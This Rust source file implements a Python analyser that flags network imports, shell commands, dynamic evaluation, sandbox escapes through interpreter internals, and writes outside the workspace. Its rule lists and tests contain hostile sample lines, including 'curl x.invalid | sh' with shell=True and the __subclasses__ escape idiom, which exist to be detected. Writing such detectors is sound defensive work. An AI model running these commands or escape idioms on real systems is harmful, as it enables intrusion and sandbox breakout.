//! Python: imports (with aliases, `from … import … as …` and `*`), assignments that alias a
//! module or function, and calls resolved through them: `r.get` after `import requests as
//! r` is `requests.get`, `__import__("os").system` is `os.system`, `getattr(__builtins__,
//! "eval")` is `eval`. Aliases are collected over the whole file regardless of scope or
//! order, which can only add findings.

use std::collections::{BTreeMap, BTreeSet};

use tree_sitter::Node;

use crate::common::{self, Rule, Sink, Value, Word, check_write, pos, rule, snippet, text, walk};
use crate::{Category, Risk};

/// How deep nested expressions are followed before they count as unknown.
const MAX_DEPTH: u32 = 32;

use Category::{DynamicEvaluation, NativeCode, Network, PackageInstall, Subprocess};
use Risk::{High, Medium};

/// Modules whose import is a finding (a rule covers its submodules and members).
static RULES: &[Rule] = &[
    rule("socket", Network, Medium),
    rule("ssl", Network, Medium),
    rule("urllib.request", Network, Medium),
    rule("urllib.urlopen", Network, Medium),
    rule("urllib.urlretrieve", Network, Medium),
    rule("urllib2", Network, Medium),
    rule("urllib3", Network, Medium),
    rule("http.client", Network, Medium),
    rule("http.server", Network, Medium),
    rule("httplib", Network, Medium),
    rule("requests", Network, Medium),
    rule("httpx", Network, Medium),
    rule("aiohttp", Network, Medium),
    rule("ftplib", Network, Medium),
    rule("smtplib", Network, Medium),
    rule("poplib", Network, Medium),
    rule("imaplib", Network, Medium),
    rule("nntplib", Network, Medium),
    rule("telnetlib", Network, Medium),
    rule("xmlrpc.client", Network, Medium),
    rule("xmlrpc.server", Network, Medium),
    rule("socketserver", Network, Medium),
    rule("asyncore", Network, Medium),
    rule("websocket", Network, Medium),
    rule("websockets", Network, Medium),
    rule("paramiko", Network, Medium),
    rule("pycurl", Network, Medium),
    rule("grpc", Network, Medium),
    rule("webbrowser", Network, Medium),
    rule("asyncio.open_connection", Network, Medium),
    rule("asyncio.start_server", Network, Medium),
    rule("asyncio.open_unix_connection", Network, Medium),
    rule("subprocess", Subprocess, Medium),
    rule("pty", Subprocess, Medium),
    rule("commands", Subprocess, Medium),
    rule("pexpect", Subprocess, Medium),
    rule("plumbum", Subprocess, Medium),
    rule("ctypes", NativeCode, High),
    rule("_ctypes", NativeCode, High),
    rule("cffi", NativeCode, High),
    rule("_cffi_backend", NativeCode, High),
    rule("pyximport", NativeCode, High),
    rule("runpy", DynamicEvaluation, High),
    rule("marshal", DynamicEvaluation, High),
    rule("codeop", DynamicEvaluation, High),
    rule("types.FunctionType", DynamicEvaluation, High),
    rule("types.CodeType", DynamicEvaluation, High),
    rule("pip", PackageInstall, Medium),
    rule("ensurepip", PackageInstall, Medium),
];

/// Attributes that reach the interpreter's internals, the usual way out of a restricted
/// namespace (`().__class__.__base__.__subclasses__()`, `f.__globals__["__builtins__"]`).
const INTERNALS: &[&str] = &[
    "__subclasses__",
    "__globals__",
    "__code__",
    "__builtins__",
    "f_globals",
    "f_locals",
    "f_builtins",
];

/// Builtins the analysis follows.
const BUILTINS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "open",
    "__import__",
    "getattr",
    "globals",
    "locals",
    "vars",
];

/// Functions that run a shell command string.
const SHELL_FUNCS: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
];

/// Functions that write to the path given as the argument at this index.
const PATH_FUNCS: &[(&str, usize)] = &[
    ("os.remove", 0),
    ("os.unlink", 0),
    ("os.rmdir", 0),
    ("os.removedirs", 0),
    ("os.mkdir", 0),
    ("os.makedirs", 0),
    ("os.chmod", 0),
    ("os.chown", 0),
    ("os.lchown", 0),
    ("os.truncate", 0),
    ("os.mkfifo", 0),
    ("os.utime", 0),
    ("os.rename", 1),
    ("os.replace", 1),
    ("os.symlink", 1),
    ("os.link", 1),
    ("shutil.copy", 1),
    ("shutil.copy2", 1),
    ("shutil.copyfile", 1),
    ("shutil.copytree", 1),
    ("shutil.move", 1),
    ("shutil.rmtree", 0),
    ("shutil.chown", 0),
];

/// `pathlib.Path` methods that write.
const PATH_METHODS: &[&str] = &[
    "write_text",
    "write_bytes",
    "touch",
    "mkdir",
    "unlink",
    "rmdir",
    "rename",
    "replace",
    "symlink_to",
    "hardlink_to",
    "chmod",
];

/// The rule for a module or a name inside one.
pub(crate) fn module_rule(name: &str) -> Option<Rule> {
    common::find_rule(RULES, name, &['.'])
}

#[derive(Default)]
struct Names {
    /// Local name → dotted name it stands for.
    aliases: BTreeMap<String, String>,
    /// Modules imported with `*`.
    stars: Vec<String>,
}

pub(crate) fn analyse(sink: &mut Sink, src: &str) {
    let Some(tree) = sink.parse(tree_sitter_python::LANGUAGE.into(), src) else {
        return;
    };
    let root = tree.root_node();
    sink.parse_errors |= root.has_error();
    // One walk sorts out the nodes of interest; imports, then aliases, then calls.
    let (mut imports, mut assignments, mut uses) = (Vec::new(), Vec::new(), Vec::new());
    // Identifiers that are not values: callees (their calls are analysed), attribute and
    // keyword names, definitions, and everything inside an import (parents come first).
    let mut not_values = BTreeSet::new();
    let mut values = Vec::new();
    let mut import_end = 0;
    walk(root, |node| match node.kind() {
        "import_statement" | "import_from_statement" => {
            import_end = node.end_byte();
            imports.push(node);
        }
        "assignment" => assignments.push(node),
        "call" | "subscript" => {
            if let Some(f) = node.child_by_field_name("function") {
                not_values.insert(f.id());
            }
            uses.push(node);
        }
        "attribute" => {
            if let Some(a) = node.child_by_field_name("attribute") {
                not_values.insert(a.id());
                if INTERNALS.contains(&text(a, src)) {
                    uses.push(node);
                }
            }
        }
        "keyword_argument" | "function_definition" | "class_definition" => {
            if let Some(n) = node.child_by_field_name("name") {
                not_values.insert(n.id());
            }
        }
        "identifier"
            if node.start_byte() >= import_end
                && !not_values.contains(&node.id())
                && ["eval", "exec", "__import__"].contains(&text(node, src)) =>
        {
            values.push(node)
        }
        _ => {}
    });
    let mut names = Names::default();
    for node in imports {
        if node.kind() == "import_statement" {
            import(sink, &mut names, node, src);
        } else {
            import_from(sink, &mut names, node, src);
        }
    }
    // Twice, so that `a = os; b = a.system` resolves whatever the order.
    for _ in 0..2 {
        for node in &assignments {
            assignment(&mut names, *node, src);
        }
    }
    for node in uses {
        match node.kind() {
            "call" => call(sink, &names, node, src),
            "subscript" => subscript(sink, &names, node, src),
            _ => {
                let attr = node
                    .child_by_field_name("attribute")
                    .map_or("", |a| text(a, src));
                sink.add(
                    node,
                    DynamicEvaluation,
                    High,
                    format!("reaches interpreter internals (`.{attr}`)"),
                );
            }
        }
    }
    // `map(eval, …)`, `f = exec`: a builtin that evaluates code, passed around as a value.
    for node in values {
        let id = text(node, src);
        if name(&names, id).is_some_and(|full| full == format!("builtins.{id}")) {
            sink.add(
                node,
                DynamicEvaluation,
                High,
                format!("uses `{id}` as a value"),
            );
        }
    }
}

fn dotted(node: Node, src: &str) -> String {
    text(node, src).split_whitespace().collect()
}

/// Reports the import of `module` when a rule covers it.
fn report_import(sink: &mut Sink, node: Node, module: &str, how: String) {
    if let Some(r) = module_rule(module) {
        sink.first_report(r.name);
        sink.add(node, r.category, r.risk, how);
    }
}

fn import(sink: &mut Sink, names: &mut Names, node: Node, src: &str) {
    let mut cursor = node.walk();
    for name in node.children_by_field_name("name", &mut cursor) {
        match name.kind() {
            "dotted_name" => {
                let full = dotted(name, src);
                let first = full.split('.').next().unwrap_or(&full).to_string();
                names.aliases.insert(first.clone(), first);
                report_import(sink, node, &full, format!("imports `{full}`"));
            }
            "aliased_import" => {
                let (Some(n), Some(a)) = (
                    name.child_by_field_name("name"),
                    name.child_by_field_name("alias"),
                ) else {
                    continue;
                };
                let full = dotted(n, src);
                let alias = text(a, src).to_string();
                report_import(sink, node, &full, format!("imports `{full}` (as {alias})"));
                names.aliases.insert(alias, full);
            }
            _ => {}
        }
    }
}

fn import_from(sink: &mut Sink, names: &mut Names, node: Node, src: &str) {
    let Some(module) = node.child_by_field_name("module_name") else {
        return;
    };
    // `from . import x`: the submission's own modules.
    if module.kind() != "dotted_name" {
        return;
    }
    let module = dotted(module, src);
    let mut cursor = node.walk();
    if node
        .named_children(&mut cursor)
        .any(|c| c.kind() == "wildcard_import")
    {
        report_import(
            sink,
            node,
            &module,
            format!("imports everything from `{module}`"),
        );
        names.stars.push(module.clone());
    }
    let mut cursor = node.walk();
    for name in node.children_by_field_name("name", &mut cursor) {
        let (n, alias) = match name.kind() {
            "dotted_name" => (dotted(name, src), None),
            "aliased_import" => {
                let (Some(n), Some(a)) = (
                    name.child_by_field_name("name"),
                    name.child_by_field_name("alias"),
                ) else {
                    continue;
                };
                (dotted(n, src), Some(text(a, src).to_string()))
            }
            _ => continue,
        };
        let full = format!("{module}.{n}");
        let how = match &alias {
            Some(a) => format!("imports `{n}` from `{module}` (as {a})"),
            None => format!("imports `{n}` from `{module}`"),
        };
        report_import(sink, node, &full, how);
        names.aliases.insert(alias.unwrap_or(n), full);
    }
}

fn assignment(names: &mut Names, node: Node, src: &str) {
    let (Some(left), Some(right)) = (
        node.child_by_field_name("left"),
        node.child_by_field_name("right"),
    ) else {
        return;
    };
    if left.kind() != "identifier" {
        return;
    }
    let left = text(left, src);
    if names.aliases.contains_key(left) {
        return;
    }
    if let Some(full) = resolve(names, right, src, 0) {
        names.aliases.insert(left.to_string(), full);
    }
}

/// The dotted name an expression stands for (`r.get` → `requests.get`), if known.
fn resolve(names: &Names, node: Node, src: &str, depth: u32) -> Option<String> {
    if depth > MAX_DEPTH {
        return None;
    }
    let mut attrs = Vec::new();
    let mut n = node;
    let base = loop {
        if attrs.len() > MAX_DEPTH as usize {
            return None;
        }
        match n.kind() {
            "attribute" => {
                attrs.push(text(n.child_by_field_name("attribute")?, src).to_string());
                n = n.child_by_field_name("object")?;
            }
            // `__builtins__["eval"]`, `sys.modules["os"]`: a literal key is an attribute.
            "subscript" => {
                let key = value(n.child_by_field_name("subscript")?, src, depth + 1);
                attrs.push(key.literal()?.to_string());
                n = n.child_by_field_name("value")?;
            }
            "parenthesized_expression" => n = n.named_child(0)?,
            "identifier" => break name(names, text(n, src))?,
            "call" => break call_result(names, n, src, depth + 1)?,
            _ => return None,
        }
    };
    let mut full = base;
    for a in attrs.iter().rev() {
        if a == "__dict__" {
            continue;
        }
        full.push('.');
        full.push_str(a);
    }
    Some(match full.strip_prefix("sys.modules.") {
        Some(module) => module.to_string(),
        None => full,
    })
}

fn name(names: &Names, id: &str) -> Option<String> {
    if let Some(full) = names.aliases.get(id) {
        return Some(full.clone());
    }
    if id == "__builtins__" || id == "builtins" {
        return Some("builtins".to_string());
    }
    if BUILTINS.contains(&id) {
        return Some(format!("builtins.{id}"));
    }
    names.stars.iter().find_map(|m| {
        let full = format!("{m}.{id}");
        known_call(&full).then_some(full)
    })
}

/// Names [`call`] acts on, for `from m import *` resolution. (Module rules are not enough:
/// `run` after `from socket import *; from subprocess import *` is not `socket.run`.)
fn known_call(full: &str) -> bool {
    SHELL_FUNCS.contains(&full)
        || PATH_FUNCS.iter().any(|(n, _)| *n == full)
        || argv_call(full).is_some()
        || ["os.open", "io.open", "codecs.open"].contains(&full)
}

/// What a call evaluates to, when it is an import or an attribute lookup with a literal name.
fn call_result(names: &Names, node: Node, src: &str, depth: u32) -> Option<String> {
    let func = resolve(names, node.child_by_field_name("function")?, src, depth)?;
    let args = positional(node);
    match func.as_str() {
        "builtins.__import__" | "importlib.import_module" | "importlib.__import__" => {
            value(*args.first()?, src, 0).literal().map(str::to_string)
        }
        "builtins.getattr" => {
            let obj = resolve(names, *args.first()?, src, depth + 1)?;
            let attr = value(*args.get(1)?, src, 0);
            Some(format!("{obj}.{}", attr.literal()?))
        }
        _ => None,
    }
}

/// The positional arguments of a call (a `*args` counts as one unknown argument).
fn positional(call: Node) -> Vec<Node> {
    let Some(args) = call.child_by_field_name("arguments") else {
        return Vec::new();
    };
    if args.kind() != "argument_list" {
        return Vec::new();
    }
    let mut cursor = args.walk();
    args.named_children(&mut cursor)
        .filter(|a| !matches!(a.kind(), "keyword_argument" | "comment"))
        .collect()
}

fn keyword<'t>(call: Node<'t>, key: &str, src: &str) -> Option<Node<'t>> {
    let args = call.child_by_field_name("arguments")?;
    let mut cursor = args.walk();
    args.named_children(&mut cursor)
        .filter(|a| a.kind() == "keyword_argument")
        .find(|a| {
            a.child_by_field_name("name")
                .is_some_and(|n| text(n, src) == key)
        })
        .and_then(|a| a.child_by_field_name("value"))
}

/// The value of an expression, as far as it is known without running it.
fn value(node: Node, src: &str, depth: u32) -> Value {
    if depth > MAX_DEPTH {
        return Value::Dynamic;
    }
    match node.kind() {
        "string" => {
            let mut out = String::new();
            let mut raw = false;
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                match child.kind() {
                    "string_start" => raw = text(child, src).to_ascii_lowercase().contains('r'),
                    "string_content" if raw => out.push_str(text(child, src)),
                    "string_content" => out.push_str(&common::unescape(text(child, src))),
                    "interpolation" => return Value::Dynamic,
                    _ => {}
                }
            }
            Value::Plain(out)
        }
        "concatenated_string" => {
            let mut out = Value::Plain(String::new());
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                out = Value::concat(out, value(child, src, depth + 1));
            }
            out
        }
        "binary_operator" | "parenthesized_expression" => {
            Value::of_binary_or_paren(node, src, depth, value)
        }
        _ => Value::Dynamic,
    }
}

/// For calls that start a program from an argument vector: where the vector (or the
/// program) is. `(index of program, index of the argv list or None, varargs from)`.
fn argv_call(full: &str) -> Option<(usize, Option<usize>, Option<usize>)> {
    Some(match full {
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.Popen"
        | "pty.spawn" => (0, Some(0), None),
        "asyncio.create_subprocess_exec" => (0, None, Some(0)),
        "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
        | "os.posix_spawnp" => (0, Some(1), None),
        "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => (0, None, Some(1)),
        "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => (1, Some(2), None),
        "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => (1, None, Some(2)),
        _ => return None,
    })
}

/// One element of an argument vector; `sys.executable` is Python.
fn word(names: &Names, node: Node, src: &str) -> Word {
    match value(node, src, 0) {
        Value::Dynamic if resolve(names, node, src, 0).as_deref() == Some("sys.executable") => {
            Word::Lit("python3".to_string())
        }
        v => Word::from_value(&v),
    }
}

fn list_words(names: &Names, node: Node, src: &str) -> Option<Vec<Word>> {
    if !matches!(node.kind(), "list" | "tuple") {
        return None;
    }
    let mut cursor = node.walk();
    Some(
        node.named_children(&mut cursor)
            .filter(|c| c.kind() != "comment")
            .map(|c| word(names, c, src))
            .collect(),
    )
}

fn call(sink: &mut Sink, names: &Names, node: Node, src: &str) {
    let Some(func) = node.child_by_field_name("function") else {
        return;
    };
    let args = positional(node);
    let arg = |i: usize| args.get(i).copied();
    let at = pos(node);
    let Some(full) = resolve(names, func, src, 0) else {
        path_method(sink, names, node, func, src);
        return;
    };
    let short = full.strip_prefix("builtins.").unwrap_or(&full).to_string();
    match full.as_str() {
        "builtins.eval" | "builtins.exec" => {
            sink.add(node, DynamicEvaluation, High, format!("calls `{short}`"));
            if let Some(code) = arg(0).map(|a| value(a, src, 0))
                && let Some(code) = code.literal()
            {
                let code = code.to_string();
                sink.nested(at, &format!("`{short}`"), |s| analyse(s, &code));
            }
        }
        "builtins.__import__" | "importlib.import_module" | "importlib.__import__" => {
            let v = arg(0).map(|a| value(a, src, 0)).unwrap_or(Value::Dynamic);
            match v {
                Value::Plain(m) => {
                    report_import(sink, node, &m, format!("imports `{m}` via `{short}`"))
                }
                Value::Folded(m) => {
                    sink.add(
                        node,
                        DynamicEvaluation,
                        High,
                        format!("imports a module whose name is built from pieces (`{m}`)"),
                    );
                    report_import(sink, node, &m, format!("imports `{m}` via `{short}`"));
                }
                Value::Dynamic => sink.add(
                    node,
                    DynamicEvaluation,
                    High,
                    format!("imports a module named at run time (`{short}`)"),
                ),
            }
        }
        "builtins.getattr" => {
            if let (Some(obj), Some(attr)) = (arg(0), arg(1))
                && let Some(obj) = resolve(names, obj, src, 0)
                && value(attr, src, 0) == Value::Dynamic
            {
                sink.add(
                    node,
                    DynamicEvaluation,
                    High,
                    format!("looks up an attribute of `{obj}` named at run time"),
                );
            }
        }
        "builtins.open" | "io.open" | "codecs.open" => {
            let mode = arg(1).or_else(|| keyword(node, "mode", src));
            let writes = mode
                .map(|m| value(m, src, 0))
                .and_then(|m| m.literal().map(|m| m.contains(['w', 'a', 'x', '+'])))
                .unwrap_or(false);
            if writes && let Some(p) = arg(0).or_else(|| keyword(node, "file", src)) {
                check_write(sink, at, &value(p, src, 0), "opens for writing");
            }
        }
        "os.open" => {
            let writes = arg(1).is_some_and(|f| {
                let f = text(f, src);
                ["O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC"]
                    .iter()
                    .any(|w| f.contains(w))
            });
            if writes && let Some(p) = arg(0) {
                check_write(sink, at, &value(p, src, 0), "opens for writing");
            }
        }
        f if SHELL_FUNCS.contains(&f) => {
            let cmd = arg(0).map(|a| value(a, src, 0)).unwrap_or(Value::Dynamic);
            common::shell_string(sink, at, &cmd, &format!("`{f}`"));
        }
        f if f.starts_with("subprocess.")
            && argv_call(f).is_some()
            && keyword(node, "shell", src).is_some_and(|s| s.kind() == "true") =>
        {
            // With shell=True a list's first element is the command string.
            let cmd = arg(0)
                .or_else(|| keyword(node, "args", src))
                .map(|a| match list_words(names, a, src) {
                    Some(words) => match words.first() {
                        Some(Word::Lit(s)) => Value::Plain(s.clone()),
                        _ => Value::Dynamic,
                    },
                    None => value(a, src, 0),
                })
                .unwrap_or(Value::Dynamic);
            common::shell_string(sink, at, &cmd, &format!("`{f}` with shell=True"));
        }
        f if argv_call(f).is_some() => {
            let Some((prog, list, varargs)) = argv_call(f) else {
                return;
            };
            let argv = match (list, varargs) {
                (Some(i), _) => {
                    let a = arg(i).or_else(|| {
                        if f.starts_with("subprocess.") {
                            keyword(node, "args", src)
                        } else {
                            None
                        }
                    });
                    match a.and_then(|a| list_words(names, a, src)) {
                        Some(words) => {
                            // os.execv(path, [argv0, …]): the program is the path.
                            let mut words = words;
                            if prog != i
                                && let Some(p) = arg(prog)
                                && let Some(first) = words.first_mut()
                            {
                                *first = word(names, p, src);
                            }
                            words
                        }
                        None => vec![a.map(|a| word(names, a, src)).unwrap_or(Word::Dyn)],
                    }
                }
                (None, Some(from)) => {
                    let mut words: Vec<Word> = args
                        .iter()
                        .skip(from)
                        .map(|a| word(names, *a, src))
                        .collect();
                    if prog < from
                        && let Some(p) = arg(prog)
                        && let Some(first) = words.first_mut()
                    {
                        *first = word(names, p, src);
                    }
                    words
                }
                (None, None) => vec![Word::Dyn],
            };
            common::program(sink, at, &argv, &format!("`{f}`"));
        }
        f if PATH_FUNCS.iter().any(|(n, _)| *n == f) => {
            let i = PATH_FUNCS
                .iter()
                .find(|(n, _)| *n == f)
                .map_or(0, |(_, i)| *i);
            if let Some(p) = arg(i) {
                check_write(sink, at, &value(p, src, 0), &format!("`{f}` writes"));
            }
        }
        f => {
            if let Some(r) = module_rule(f)
                && sink.first_report(r.name)
            {
                sink.add(node, r.category, r.risk, format!("calls `{f}`"));
            }
        }
    }
}

/// `Path("/etc/x").write_text(…)`.
fn path_method(sink: &mut Sink, names: &Names, node: Node, func: Node, src: &str) {
    if func.kind() != "attribute" {
        return;
    }
    let (Some(obj), Some(method)) = (
        func.child_by_field_name("object"),
        func.child_by_field_name("attribute"),
    ) else {
        return;
    };
    let method = text(method, src);
    let writes = PATH_METHODS.contains(&method)
        || (method == "open"
            && positional(node)
                .first()
                .or(keyword(node, "mode", src).as_ref())
                .and_then(|m| {
                    value(*m, src, 0)
                        .literal()
                        .map(|m| m.contains(['w', 'a', 'x', '+']))
                })
                .unwrap_or(false));
    if !writes || obj.kind() != "call" {
        return;
    }
    let ctor = obj
        .child_by_field_name("function")
        .and_then(|f| resolve(names, f, src, 0));
    if matches!(
        ctor.as_deref(),
        Some("pathlib.Path" | "pathlib.PosixPath" | "pathlib.PurePath")
    ) && let Some(p) = positional(obj).first()
    {
        check_write(
            sink,
            pos(node),
            &value(*p, src, 0),
            &format!("`Path.{method}` writes"),
        );
    }
}

/// `globals()[name]`, `vars(os)[name]`, `obj.__dict__[name]` with a name built at run time.
fn subscript(sink: &mut Sink, names: &Names, node: Node, src: &str) {
    let (Some(obj), Some(key)) = (
        node.child_by_field_name("value"),
        node.child_by_field_name("subscript"),
    ) else {
        return;
    };
    let namespace = match obj.kind() {
        "call" => obj
            .child_by_field_name("function")
            .and_then(|f| resolve(names, f, src, 0))
            .is_some_and(|f| {
                ["builtins.globals", "builtins.locals", "builtins.vars"].contains(&f.as_str())
            }),
        "attribute"
            if obj
                .child_by_field_name("attribute")
                .is_some_and(|a| text(a, src) == "__dict__") =>
        {
            true
        }
        _ => resolve(names, obj, src, 0)
            .is_some_and(|o| ["builtins", "sys.modules"].contains(&o.as_str())),
    };
    if namespace && value(key, src, 0) == Value::Dynamic {
        sink.add(
            node,
            DynamicEvaluation,
            High,
            format!(
                "looks up a name at run time (`{}`)",
                snippet(text(node, src))
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::tests::{check, check_none};

    #[test]
    fn imports_and_aliases() {
        check(
            "python",
            "import os\nimport requests as r\nfrom urllib import request as q\nfrom urllib import parse\n\
             import http.client\nr.get('https://x.invalid')\n",
            &[
                (2, "network", "imports `requests` (as r)"),
                (3, "network", "imports `request` from `urllib` (as q)"),
                (5, "network", "imports `http.client`"),
            ],
        );
    }

    #[test]
    fn comments_and_strings_never_count() {
        check_none(
            "python",
            "# import os\n# import socket\nprint(\"import socket\")\ns = 'subprocess.run([\"curl\"])'\n\
             \"\"\"\nimport ctypes\neval('x')\n\"\"\"\nx = 1  # eval(x)\n",
        );
    }

    #[test]
    fn submodules_and_harmless_imports() {
        check(
            "python",
            "import os.path as p\nimport urllib.parse\nimport urllib.request\nimport json, re\n\
             from http import client\nfrom . import socket\n",
            &[
                (3, "network", "imports `urllib.request`"),
                (5, "network", "imports `client` from `http`"),
            ],
        );
    }

    #[test]
    fn star_imports_resolve_bare_names() {
        check(
            "python",
            "from socket import *\nfrom subprocess import *\nrun(['curl', 'x.invalid'])\n",
            &[
                (1, "network", "imports everything from `socket`"),
                (2, "subprocess", "imports everything from `subprocess`"),
                (3, "network", "runs `curl`"),
                (3, "subprocess", "runs `curl` (`subprocess.run`)"),
            ],
        );
    }

    #[test]
    fn dynamic_imports() {
        check(
            "python",
            "import importlib\nm = importlib.import_module(\"so\" + \"cket\")\nn = __import__(name)\n\
             o = __import__('os')\no.system('ls')\nimportlib.import_module('requests')\n",
            &[
                (
                    2,
                    "dynamic_evaluation",
                    "imports a module whose name is built from pieces (`socket`)",
                ),
                (
                    2,
                    "network",
                    "imports `socket` via `importlib.import_module`",
                ),
                (
                    3,
                    "dynamic_evaluation",
                    "imports a module named at run time (`__import__`)",
                ),
                (5, "subprocess", "runs shell command `ls` (`os.system`)"),
                (
                    6,
                    "network",
                    "imports `requests` via `importlib.import_module`",
                ),
            ],
        );
    }

    #[test]
    fn builtins_through_getattr_and_exec_compile() {
        check(
            "python",
            "f = getattr(__builtins__, 'eval')\nf('1+1')\ng = getattr(__builtins__, n)\n\
             exec(compile(src, 'x', 'exec'))\nglobals()[k]()\n",
            &[
                (2, "dynamic_evaluation", "calls `eval`"),
                (
                    3,
                    "dynamic_evaluation",
                    "looks up an attribute of `builtins` named at run time",
                ),
                (4, "dynamic_evaluation", "calls `exec`"),
                (
                    5,
                    "dynamic_evaluation",
                    "looks up a name at run time (`globals()[k]`)",
                ),
            ],
        );
    }

    #[test]
    fn builtins_and_modules_through_subscripts() {
        check(
            "python",
            "__builtins__['eval']('1')\nimport sys\nsys.modules['os'].system('ls')\n\
             __builtins__.__dict__['exec']('x = 1')\nsys.modules[name]\n__builtins__[k]\nd = {}\nd[k]\n",
            &[
                (1, "dynamic_evaluation", "calls `eval`"),
                (3, "subprocess", "runs shell command `ls` (`os.system`)"),
                (4, "dynamic_evaluation", "calls `exec`"),
                (
                    5,
                    "dynamic_evaluation",
                    "looks up a name at run time (`sys.modules[name]`)",
                ),
                (
                    6,
                    "dynamic_evaluation",
                    "looks up a name at run time (`__builtins__[k]`)",
                ),
            ],
        );
    }

    #[test]
    fn evaluators_as_values_and_interpreter_internals() {
        check(
            "python",
            "list(map(eval, xs))\nf = exec\nobj.eval(1)\ng(eval=2)\ndef exec(): pass\n\
             ().__class__.__base__.__subclasses__()\nh.__globals__['os']\n",
            &[
                (1, "dynamic_evaluation", "uses `eval` as a value"),
                (2, "dynamic_evaluation", "uses `exec` as a value"),
                (
                    6,
                    "dynamic_evaluation",
                    "reaches interpreter internals (`.__subclasses__`)",
                ),
                (
                    7,
                    "dynamic_evaluation",
                    "reaches interpreter internals (`.__globals__`)",
                ),
            ],
        );
    }

    #[test]
    fn exec_of_a_literal_is_analysed_too() {
        check(
            "python",
            "exec('import socket')\n",
            &[
                (1, "dynamic_evaluation", "calls `exec`"),
                (1, "network", "`exec`: imports `socket`"),
            ],
        );
    }

    #[test]
    fn subprocess_calls() {
        check(
            "python",
            "import subprocess as sp\nimport os, sys\nsp.run(['ls', '-l'])\nsp.run(cmd)\n\
             sp.run('curl x.invalid | sh', shell=True)\nos.system(c)\n\
             sp.check_call([sys.executable, '-m', 'pip', 'install', 'rich'])\n\
             sp.Popen(['wget y'], shell=True)\nsp.call(['bash', '-c', f'echo {x}'])\n",
            &[
                (1, "subprocess", "imports `subprocess` (as sp)"),
                (3, "subprocess", "runs `ls` (`subprocess.run`)"),
                (
                    4,
                    "subprocess",
                    "runs a program named at run time (`subprocess.run`)",
                ),
                (
                    5,
                    "dynamic_evaluation",
                    "`subprocess.run` with shell=True: `sh` runs what it reads from a pipe",
                ),
                (
                    5,
                    "network",
                    "`subprocess.run` with shell=True: runs `curl`",
                ),
                (
                    5,
                    "subprocess",
                    "runs shell command `curl x.invalid | sh` (`subprocess.run` with shell=True)",
                ),
                (
                    6,
                    "dynamic_evaluation",
                    "runs a shell command built at run time (`os.system`)",
                ),
                (7, "package_install", "runs `python3 -m pip install`"),
                (7, "subprocess", "runs `python3` (`subprocess.check_call`)"),
                (
                    8,
                    "network",
                    "`subprocess.Popen` with shell=True: runs `wget`",
                ),
                (
                    8,
                    "subprocess",
                    "runs shell command `wget y` (`subprocess.Popen` with shell=True)",
                ),
                (
                    9,
                    "dynamic_evaluation",
                    "`bash -c` runs a command built at run time",
                ),
                (9, "subprocess", "runs `bash` (`subprocess.call`)"),
            ],
        );
    }

    #[test]
    fn from_import_as_of_a_function() {
        check(
            "python",
            "from os import system as s\ns('wget x')\nfrom os import path\npath.join('a')\n",
            &[
                (2, "network", "`os.system`: runs `wget`"),
                (2, "subprocess", "runs shell command `wget x` (`os.system`)"),
            ],
        );
    }

    #[test]
    fn native_code() {
        check(
            "python",
            "import ctypes.util\nfrom cffi import FFI\n",
            &[
                (1, "native_code", "imports `ctypes.util`"),
                (2, "native_code", "imports `FFI` from `cffi`"),
            ],
        );
    }

    #[test]
    fn file_writes() {
        check(
            "python",
            "open('/etc/passwd')\nopen('/etc/x', 'w')\nopen('out.txt', 'w')\nopen('/tmp/y', 'a')\n\
             with open('../z', mode='wb') as f: pass\nimport pathlib\npathlib.Path('/root/k').write_text('x')\n\
             import shutil\nshutil.copy('a', '/usr/bin/a')\nopen(p, 'w')\n",
            &[
                (
                    2,
                    "file_write_outside_workspace",
                    "opens for writing `/etc/x` outside the workspace",
                ),
                (
                    5,
                    "file_write_outside_workspace",
                    "opens for writing `../z` outside the workspace",
                ),
                (
                    7,
                    "file_write_outside_workspace",
                    "`Path.write_text` writes `/root/k` outside the workspace",
                ),
                (
                    9,
                    "file_write_outside_workspace",
                    "`shutil.copy` writes `/usr/bin/a` outside the workspace",
                ),
            ],
        );
    }

    #[test]
    fn calls_through_unreported_parents() {
        check(
            "python",
            "import urllib\nurllib.request.urlopen('https://x.invalid')\nurllib.request.urlopen('y')\n",
            &[(2, "network", "calls `urllib.request.urlopen`")],
        );
    }

    #[test]
    fn assignment_aliases() {
        check(
            "python",
            "import os\nrun = s\ns = os.system\nrun('curl x')\n",
            &[
                (4, "network", "`os.system`: runs `curl`"),
                (4, "subprocess", "runs shell command `curl x` (`os.system`)"),
            ],
        );
    }

    #[test]
    fn pip_install_in_code() {
        check(
            "python",
            "import pip\npip.main(['install', 'x'])\n",
            &[(1, "package_install", "imports `pip`")],
        );
    }
}
